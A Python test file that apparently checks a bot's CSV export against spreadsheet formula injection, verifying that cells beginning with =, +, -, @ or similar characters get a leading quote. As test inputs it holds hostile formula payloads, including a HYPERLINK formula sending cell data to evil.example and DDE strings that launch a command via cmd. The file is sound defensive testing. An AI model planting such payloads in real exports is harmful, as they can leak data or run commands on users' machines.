"""/export writes no cell a spreadsheet would run as a formula: a CSC code
from a ``csc_`` link, a name or any other answer beginning with = + - @ (or a
tab, carriage return, line feed, a full-width form, or spaces before one) is
written with a single quote before it; ordinary cells are as they were. No
module of the bot makes a CSV writer other than the safe one."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from bot.reports import commands
from bot.reports.export import COLUMNS
from bot.reports.spreadsheet import spreadsheet_text
from tests.reports.test_reports import HARIDWAR, req, submit
from tests.store.test_store import draft_for, valid_aadhaar

BOT = Path(__file__).resolve().parents[2] / "bot"

HOSTILE = {
    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "gender": "+1+1",
    "dob": "-2+3+cmd|' /C calc'!A0",
    "ifsc": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sector": "\t=1+1",
    "occupation": "\r=1+1",
}


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_export_escapes_cells_a_spreadsheet_would_run_as_formulas(store) -> None:
    draft = draft_for("tg:911", aadhaar=valid_aadhaar(911 * 7919 + 10**10))
    draft.answers.update({"state": "UTTARAKHAND", "district": "HARIDWAR", **HOSTILE})
    draft.meta["source"] = "csc_=HYPERLINK(\"http://evil.example\")"     # /start csc_=HYPERLINK(...)
    hostile = await store.submit(draft, lambda: "SS-0911-0000")
    plain = await submit(store, "tg:912", source="csc_CSC1234")
    out = await commands.export(req(store, HARIDWAR, "export"))
    rows = {row["reference"]: row for row in rows_of(out.replies[0].document[1])}
    bad, good = rows[hostile.reference], rows[plain.reference]
    assert bad["csc"] == ""  # a deep link that is not a CSC code is not counted as one (bot.store.tally)
    for column, value in HOSTILE.items():
        assert bad[column] == "'" + value, column
    for row in rows.values():        # no cell at all begins as a formula
        for column in COLUMNS:
            assert not row[column].startswith(tuple("=+-@\t\r")), (column, row[column])
    # ordinary cells are written as they are
    assert good["csc"] == "CSC1234" and good["name"] == "राम कुमार" and good["ifsc"] == "HDFC0001234"
    assert good["reference"] == plain.reference and good["district"] == "HARIDWAR"
    assert good["mobile"] == "XXXXXX1234" and good["aadhaar"].startswith("XXXX XXXX ")
    assert bad["mobile"] == "XXXXXX1234"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", " =1+1", "\u00a0@A1",
                                  "＝1+1", "＋1", "－1", "＠A1"])
def test_a_formula_cell_gets_a_quote_before_it(cell) -> None:
    assert spreadsheet_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "CSC1234", "राम कुमार", "SS-0911-0000", "2026-11-25T05:00:00+00:00",
                                  "XXXX XXXX 1234", "a=b", "1-2", "'quoted", "   "])
def test_an_ordinary_cell_is_unchanged(cell) -> None:
    assert spreadsheet_text(cell) == cell
    assert spreadsheet_text(None) == "" and spreadsheet_text(5) == "5"


def test_no_module_makes_a_csv_writer_but_the_safe_one() -> None:
    makers = re.compile(r"csv\s*\.\s*(writer|DictWriter)\b|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b")
    found = [path.relative_to(BOT).as_posix() for path in BOT.rglob("*.py")
             if makers.search(path.read_text(encoding="utf-8"))]
    assert found == ["reports/spreadsheet.py"]
